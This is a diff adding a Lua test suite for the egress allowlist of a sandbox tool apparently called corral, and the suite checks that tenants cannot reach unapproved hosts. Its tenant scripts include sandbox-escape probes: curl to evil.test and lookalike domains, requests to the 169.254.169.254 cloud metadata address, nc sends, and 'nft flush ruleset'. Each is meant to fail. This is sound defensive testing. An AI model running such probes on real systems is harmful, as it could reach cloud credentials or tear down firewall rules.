@@ -1,0 +1,277 @@
+-- Egress allowlists end to end: real clients (curl, getent, nc, dig, perl) in a native
+-- tenant, real servers in a test "internet" netns reached over a veth, the real
+-- nftables redirect, acceptor, DNS responder and relay. Each denial runs after a control
+-- that succeeds in the same run, and a logging server shows nothing leaked out.
+local corral = require "corral"
+local h = require "helpers"
+local internet = require "internet"
+
+describe("egress #root #netns", function()
+  local net
+
+  setup(function() net = internet.start() end)
+  teardown(function() if net then internet.stop(net) end end)
+
+  local function common()
+    return { "--internal", net.cidr, "--internal", net.cidr6,
+      "--resolve", "pypi.org=" .. net.ip, "--resolve", "api.example.com=" .. net.ip,
+      "--resolve", "logger.test=" .. net.ip,
+      "--allow", "pypi.org:8080", "--allow", "*.example.com:8080", "--allow", "logger.test:9444" }
+  end
+
+  -- Runs a tenant script under `corral run` with the common allowlist plus `extra` args.
+  local function run(script, extra)
+    local argv = { "run" }
+    for _, a in ipairs(common()) do argv[#argv + 1] = a end
+    for _, a in ipairs(extra or {}) do argv[#argv + 1] = a end
+    argv[#argv + 1] = "--"
+    for _, a in ipairs({ "sh", "-c", script }) do argv[#argv + 1] = a end
+    return h.corral(table.unpack(argv))
+  end
+
+  local function logged() return h.read(net.dir .. "/tcp9444.log") or "" end
+
+  -- A shell function that times a command in ms: `t curl …` prints "ms=N rc=R".
+  local TIMED = 't() { s=$(date +%s%N); "$@" >/dev/null 2>&1; r=$?; ' ..
+    'echo "ms=$(( ($(date +%s%N) - s) / 1000000 )) rc=$r"; }; '
+
+  it("relays an allowed name on an allowed port byte-exact (control)", function()
+    local out, status = run('curl -sS --max-time 10 http://pypi.org:8080/blob | sha256sum')
+    assert.are.equal(0, status, out)
+    assert.matches(net.blob_sha, out, 1, true)
+    out = run('echo via-logger | nc -N -w 3 logger.test 9444; echo rc=$?')
+    assert.matches("rc=0", out)
+    assert(h.wait_for(function() return logged():find("via-logger", 1, true) end, 3), "control never arrived")
+  end)
+
+  it("refuses, fast, the same name on another port, other names, IP literals and lookalikes", function()
+    local before = logged()
+    local out = run(TIMED .. [[
+      t curl -sS --max-time 5 http://pypi.org:8080/index.html; echo control
+      t curl -sS --max-time 5 http://pypi.org:9444/
+      t curl -sS --max-time 5 http://evil.test:9444/
+      t curl -sS --max-time 5 http://]] .. net.ip .. [[:9444/
+      t curl -sS --max-time 5 'http://[]] .. net.ip6 .. [[]:9444/'
+      t curl -sS --max-time 5 http://example.com.evil.test:8080/
+      t curl -sS --max-time 5 http://evilexample.com:8080/
+      t curl -sS --max-time 5 http://example.com:8080/
+      t curl -sS --max-time 5 http://api.example.com:8080/index.html; echo control2]])
+    local lines = {}
+    for ms, rc in out:gmatch("ms=(%d+) rc=(%d+)") do lines[#lines + 1] = { tonumber(ms), tonumber(rc) } end
+    assert.are.equal(9, #lines, out)
+    assert.are.equal(0, lines[1][2], "control: " .. out)
+    assert.are.equal(0, lines[9][2], "control (wildcard): " .. out)
+    for i = 2, 8 do
+      assert.are_not.equal(0, lines[i][2], "attempt " .. i .. " succeeded: " .. out)
+      assert.truthy(lines[i][1] < 2000, "attempt " .. i .. " was not refused fast: " .. out)
+    end
+    assert.are.equal(before, logged(), "a denied connection reached the internet")
+  end)
+
+  it("answers NXDOMAIN for names not allowed and REFUSED for TXT/ANY; A works (control)", function()
+    local out = run([[
+      dig +short +tries=1 +time=2 pypi.org A | head -1
+      dig +tries=1 +time=2 evil.test A | grep -o 'status: [A-Z]*'
+      dig +tries=1 +time=2 example.com A | grep -o 'status: [A-Z]*'
+      dig +notcp +tries=1 +time=2 pypi.org TXT | grep -o 'status: [A-Z]*'
+      dig +tries=1 +time=2 pypi.org ANY | grep -o 'status: [A-Z]*'
+      dig +tcp +short +tries=1 +time=2 api.example.com A | head -1]])
+    local l = {}
+    for line in out:gmatch("[^\n]+") do l[#l + 1] = line end
+    assert.matches("^198%.1[89]%.", l[1], nil, out)
+    assert.are.equal("status: NXDOMAIN", l[2], out)
+    assert.are.equal("status: NXDOMAIN", l[3], out)
+    assert.are.equal("status: REFUSED", l[4], out)
+    assert.are.equal("status: REFUSED", l[5], out)
+    assert.matches("^198%.1[89]%.", l[6], nil, out)
+  end)
+
+  it("never asks the host's resolver about a name the tenant may not reach", function()
+    local asked = {}
+    local root = h.tmpdir("egress-dns")
+    os.execute("chmod 0711 " .. root)
+    local sb = assert(corral.sandbox({ id = "dns", storage_root = root, network = {
+      allow = { "pypi.org:8080" }, internal = { net.cidr },
+      resolve = function(name) asked[#asked + 1] = name; return { net.ip } end } }))
+    assert(corral.provision("native", sb))
+    local out_path = root .. "/out"
+    local r = assert(corral.exec("native", sb, { "sh", "-c",
+      "getent hosts secret-project.evil.test; curl -s --max-time 3 http://secret-project.evil.test:8080/; " ..
+      "curl -s --max-time 5 http://pypi.org:8080/index.html" }, { output = out_path }))
+    corral.destroy("native", sb)
+    local out = h.read(out_path)
+    h.rmrf(root)
+    assert.are.equal(0, r.code, out)
+    assert.matches("hello%-from%-the%-internet", out)
+    assert.are.same({ "pypi.org" }, asked) -- the control name, and nothing else
+  end)
+
+  it("drops UDP (443 and other ports) and ICMP, and IPv6 literals; DNS over UDP works (control)", function()
+    local out = run(TIMED .. [[
+      getent hosts pypi.org >/dev/null && echo dns-udp-ok
+      t sh -c 'echo x | nc -u -w 1 ]] .. net.ip .. [[ 443'
+      t sh -c 'echo leaked | nc -u -w 1 ]] .. net.ip .. [[ 9443'
+      busybox ping -c 1 -W 1 ]] .. net.ip .. [[ >/dev/null 2>&1 && echo PING-OK
+      busybox ping -6 -c 1 -W 1 ]] .. net.ip6 .. [[ >/dev/null 2>&1 && echo PING6-OK
+      exit 0]])
+    assert.matches("dns%-udp%-ok", out)
+    assert.is_nil(out:find("PING", 1, true))
+    for ms in out:gmatch("ms=(%d+)") do assert.truthy(tonumber(ms) < 2000, out) end
+    assert.are.equal("", h.read(net.dir .. "/udp.log") or "")
+  end)
+
+  it("refuses allowed names that resolve into loopback, private, metadata or mapped ranges", function()
+    local extra = { "--resolve", "loop.test=127.0.0.1", "--resolve", "private.test=10.99.0.1",
+      "--resolve", "meta.test=169.254.169.254", "--resolve", "mapped.test=::ffff:169.254.169.254",
+      "--allow", "loop.test", "--allow", "private.test", "--allow", "meta.test", "--allow", "mapped.test",
+      "--log-json", net.dir .. "/ranges.jsonl" }
+    local out = run(TIMED .. [[
+      t curl -sS --max-time 5 http://pypi.org:8080/index.html
+      t curl -sS --max-time 5 http://loop.test:9444/
+      t curl -sS --max-time 5 http://private.test:9444/
+      t curl -sS --max-time 5 http://meta.test:80/
+      t curl -sS --max-time 5 http://mapped.test:80/]], extra)
+    local rcs = {}
+    for rc in out:gmatch("rc=(%d+)") do rcs[#rcs + 1] = tonumber(rc) end
+    assert.are.equal(0, rcs[1], out)
+    for i = 2, 5 do assert.are_not.equal(0, rcs[i], out) end
+    local log = h.read(net.dir .. "/ranges.jsonl")
+    for _, name in ipairs({ "loop.test", "private.test", "meta.test", "mapped.test" }) do
+      assert.matches('"name":"' .. name .. '"[^\n]*"verdict":"deny"', log)
+    end
+  end)
+
+  it("keeps the tenant from administering its netns: SO_MARK, nftables, port 53", function()
+    local out = run([[
+      perl -MSocket -e 'socket(my $s, AF_INET, SOCK_STREAM, 0) or die;
+        print setsockopt($s, SOL_SOCKET, 36, pack("i", 42)) ? "MARK-SET\n" : "mark: $!\n";
+        socket(my $u, AF_INET, SOCK_DGRAM, 0) or die;
+        print bind($u, pack_sockaddr_in(8053, INADDR_ANY)) ? "bind-8053-ok\n" : "bind8053: $!\n";
+        socket(my $v, AF_INET, SOCK_DGRAM, 0) or die;
+        print bind($v, pack_sockaddr_in(53, INADDR_ANY)) ? "BOUND-53\n" : "bind53: $!\n";'
+      nft flush ruleset 2>&1 && echo FLUSHED
+      nft list ruleset >/dev/null 2>&1 && echo LISTED
+      curl -sS --max-time 5 http://pypi.org:8080/index.html]])
+    assert.matches("mark: Operation not permitted", out)
+    assert.matches("bind%-8053%-ok", out) -- control: an unprivileged port binds
+    assert.matches("bind53: Permission denied", out)
+    assert.is_nil(out:find("FLUSHED", 1, true))
+    assert.is_nil(out:find("MARK-SET", 1, true))
+    assert.matches("hello%-from%-the%-internet", out) -- the ruleset still holds afterwards
+  end)
+
+  it("fails every connection when the acceptor is gone, and none leaks out", function()
+    local root = h.tmpdir("egress-acc")
+    os.execute("chmod 0711 " .. root)
+    local sb = assert(corral.sandbox({ id = "acc", storage_root = root, network = {
+      allow = { "logger.test:9444" }, internal = { net.cidr }, resolve = { ["logger.test"] = net.ip } } }))
+    assert(corral.provision("native", sb))
+    local out_path = root .. "/out"
+    local script = "echo acceptor-test | nc -N -w 2 logger.test 9444; echo rc=$?"
+    assert(corral.exec("native", sb, { "sh", "-c", script }, { output = out_path }))
+    assert.matches("rc=0", h.read(out_path)) -- control, with the acceptor
+    local before = logged()
+    local plane = require("corral.egress.loop").planes()[1]
+    plane.acceptor:close()
+    plane.acceptor = nil
+    assert(corral.exec("native", sb, { "sh", "-c", script .. "; nc -N -w 2 " .. net.ip .. " 9444 </dev/null; echo rc=$?" },
+      { output = out_path }))
+    corral.destroy("native", sb)
+    local out = h.read(out_path)
+    h.rmrf(root)
+    assert.is_nil(out:find("rc=0", 1, true), out)
+    assert.are.equal(before, logged())
+  end)
+
+  it("does not start a sandbox whose ruleset batch fails, and leaves nothing behind", function()
+    local core = corral.core
+    local real = core.nft.apply
+    core.nft.apply = function(fd, plan)
+      local p = {}
+      for k, v in pairs(plan) do p[k] = v end
+      p.test_bad_message = true
+      return real(fd, p)
+    end
+    local root = h.tmpdir("egress-bad")
+    os.execute("chmod 0711 " .. root)
+    local sb = assert(corral.sandbox({ id = "bad", storage_root = root, network = { allow = { "pypi.org" } } }))
+    local ok, err = corral.provision("native", sb)
+    core.nft.apply = real
+    assert.is_nil(ok)
+    assert.are.equal("cannot_enforce", err.code)
+    assert.matches("nftables", tostring(err))
+    assert.are.equal("absent", corral.status("native", sb))
+    -- control: the same sandbox provisions with the real batch
+    assert(corral.provision("native", sb))
+    corral.destroy("native", sb)
+    h.rmrf(root)
+  end)
+
+  it("relays service_port from the host through address(); another sandbox cannot reach it", function()
+    local root = h.tmpdir("egress-svc")
+    os.execute("chmod 0711 " .. root)
+    local a = assert(corral.sandbox({ id = "svc-a", storage_root = root, service_port = 8000 }))
+    local b = assert(corral.sandbox({ id = "svc-b", storage_root = root, network = { allow = { "pypi.org:8080" },
+      internal = { net.cidr }, resolve = { ["pypi.org"] = net.ip } } }))
+    assert(corral.provision("native", a))
+    assert(corral.provision("native", b))
+    local ok, addr = corral.address("native", a)
+    assert.is_true(ok)
+    local host_port = tonumber(addr:match("^127%.0%.0%.1:(%d+)$"))
+    assert.truthy(host_port, addr)
+    assert(corral.start("native", a, { "socat", "TCP-LISTEN:8000,fork,reuseaddr", "SYSTEM:echo service-a" }))
+    local native = require "corral.mechanism.native"
+    native.serve(0.5)
+    local got = ""
+    for _ = 1, 20 do
+      local c = corral.core.tcp_connect("127.0.0.1", host_port, 2)
+      if c then
+        local deadline = corral.core.monotime() + 3
+        while corral.core.monotime() < deadline and not got:find("\n") do
+          native.serve(0.05)
+          got = got .. (corral.core.read(c, 100) or "")
+        end
+        c:close()
+      end
+      if got:find("service%-a") then break end
+      native.serve(0.1)
+    end
+    assert.matches("service%-a", got) -- control: the host reaches the service
+    local out_path = root .. "/out"
+    assert(corral.exec("native", b, { "sh", "-c", "nc -w 1 127.0.0.1 " .. host_port ..
+      " </dev/null; echo rc1=$?; nc -w 1 127.0.0.1 8000 </dev/null; echo rc2=$?; " ..
+      "curl -s --max-time 5 http://pypi.org:8080/index.html" }, { output = out_path }))
+    corral.destroy("native", a)
+    corral.destroy("native", b)
+    local out = h.read(out_path)
+    h.rmrf(root)
+    assert.is_nil(out:find("service-a", 1, true), out)
+    assert.matches("hello%-from%-the%-internet", out) -- b's own egress works
+  end)
+
+  it("1,000 plane create/destroy cycles leave no fd, netns or table behind", function()
+    local plane = require "corral.egress.plane"
+    local pid = corral.core.getpid()
+    local function fds() return #h.sh("ls /proc/" .. pid .. "/fd"):gsub("[^\n]", "") end
+    -- a plane's netns lives only as long as an fd (or a process) holds it: count ours,
+    -- and the named ones
+    local netns_count = function()
+      return tonumber(h.sh("ls -l /proc/" .. pid .. "/fd | grep -c 'net:\\['; ip netns list | wc -l"):gsub("\n", "+"):match("^(%d+)")) ,
+        h.sh("ip netns list")
+    end
+    local f0, n0, named0 = fds(), netns_count()
+    for i = 1, 1000 do
+      local p = assert(plane.new("cycle-" .. i, { allow = { "pypi.org:443" } }))
+      p:close()
+    end
+    collectgarbage()
+    collectgarbage()
+    assert.are.equal(f0, fds())
+    local n1, named1 = netns_count()
+    assert.are.equal(n0, n1)
+    assert.are.equal(named0, named1)
+    for _, id in ipairs(require("corral.egress").list()) do
+      assert.is_nil(tostring(type(id) == "table" and id.id or id):match("^cycle%-"), "registry entry left")
+    end
+  end)
+end)
